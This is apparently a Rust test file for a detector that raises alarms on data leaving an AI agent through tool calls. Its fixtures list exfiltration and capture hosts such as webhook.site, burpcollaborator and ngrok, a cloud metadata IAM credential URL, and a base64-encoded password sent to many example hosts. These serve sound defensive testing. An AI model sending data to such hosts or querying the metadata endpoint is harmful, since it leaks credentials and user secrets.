//! Every row behaves as it says.

use super::super::{Alarm, links_with_data};
use super::*;
use vetgate_sensitive::Links;

/// The ids of all alarms that a case tells.
fn told(case: Case) -> Vec<Alarm> {
    let links = Links::default();
    match case {
        Case::Response(text) => links_with_data(text, &links).iter().map(|found| found.alarm()).collect(),
        Case::Calls { arguments, is_external, sensitive, times, every_ms } => {
            let arguments = arguments.replace('~', &"lorem ".repeat(40_000 / 6));
            let (thresholds, mut session) = (Thresholds::default(), Exfiltration::default());
            let mut told = Vec::new();
            for n in 0..u64::from(times) {
                let mut outgoing = Outgoing::of(&arguments, &links, is_external);
                for (kind, severity) in sensitive {
                    outgoing.add_sensitive(kind, *severity, 1);
                }
                let now = 1_700_000_000_000 + n * every_ms;
                told.extend(session.consider(&thresholds, "chat", &outgoing, now));
                session.count(&thresholds, "chat", &outgoing, now);
            }
            told
        }
    }
}

#[test]
fn every_alarm_is_told_in_its_case_and_silent_in_the_other() {
    for kind in ALARMS {
        let (fires, silent) = (told(kind.fires), told(kind.silent));
        let own: Vec<&Alarm> = fires.iter().filter(|alarm| alarm.kind == kind.id).collect();
        assert!(!own.is_empty(), "{}: {fires:?}", kind.id);
        assert!(own.iter().all(|alarm| alarm.severity <= kind.severity && !alarm.evidence.is_empty()), "{own:?}");
        assert!(own.iter().any(|alarm| alarm.severity == kind.severity), "{own:?}");
        assert!(silent.iter().all(|alarm| alarm.kind != kind.id), "{}: {silent:?}", kind.id);
    }
}

#[test]
fn ids_are_unique_and_every_family_has_its_worth() {
    for (at, kind) in ALARMS.iter().enumerate() {
        assert!(ALARMS[..at].iter().all(|other| other.id != kind.id), "{}", kind.id);
        assert!(kind.severity <= 100 && kind.meaning.ends_with('.'), "{}", kind.id);
    }
    for (host, is_read) in [
        ("webhook.site", true),
        ("x.burpcollaborator.net", true),
        ("abc.ngrok-free.app", true),
        ("grabify.link", true),
        ("pastebin.com", false),
        ("transfer.sh", false),
        ("bit.ly", false),
        ("hooks.slack.com", false),
        ("x.duckdns.org", false),
    ] {
        let at = |is_external| {
            let arguments = format!(r#"{{"url":"https://{host}/x"}}"#);
            told(Case::Calls { arguments: arguments.leak(), is_external, sensitive: &[], times: 1, every_ms: 0 })
        };
        assert_eq!(at(true).len(), 1, "{host}");
        assert_eq!(at(false).len(), usize::from(is_read), "{host}");
    }
}

#[test]
fn configured_hosts_and_the_clouds_own_are_suspicious() {
    let thresholds = Thresholds { suspicious_endpoints: vec!["*.Drop.example".into()], ..Thresholds::default() };
    for (arguments, expected) in [
        (r#"{"url":"https://a.drop.example/"}"#, 1),
        (r#"{"url":"https://raindrop.example/"}"#, 0),
        (r#"{"url":"http://169.254.169.254/latest/meta-data/iam"}"#, 1),
    ] {
        let outgoing = Outgoing::of(arguments, &Links::default(), false);
        assert_eq!(Exfiltration::default().consider(&thresholds, "http", &outgoing, 0).len(), expected, "{arguments}");
    }
}

#[test]
fn totals_beyond_the_table_are_told_as_such() {
    let (thresholds, mut session) = (Thresholds::default(), Exfiltration::default());
    let mut last = vec![];
    for n in 0..DESTINATIONS as u64 + 6 {
        let arguments = format!(r#"{{"url":"https://h{n}.example/?d=cGFzc3dvcmQ6IGh1bnRlcjIgLS0gYWRtaW4"}}"#);
        let outgoing = Outgoing::of(&arguments, &Links::default(), true);
        last = session.consider(&thresholds, "http", &outgoing, n * 100_000);
        session.count(&thresholds, "http", &outgoing, n * 100_000);
    }
    let slow = last.iter().find(|alarm| alarm.kind == "low_and_slow").expect("the sixth of the others");
    assert!(slow.evidence.contains("beyond the 64"), "{slow:?}");
}

#[test]
fn an_ordinary_mail_tells_nothing() {
    let mut outgoing =
        Outgoing::of(r#"{"to":"jo@acme.io","subject":"Lunch","body":"See you at noon."}"#, &Links::default(), true);
    outgoing.add_sensitive("email", Severity::Medium, 1);
    assert_eq!(Exfiltration::default().consider(&Thresholds::default(), "mail", &outgoing, 5), []);
}
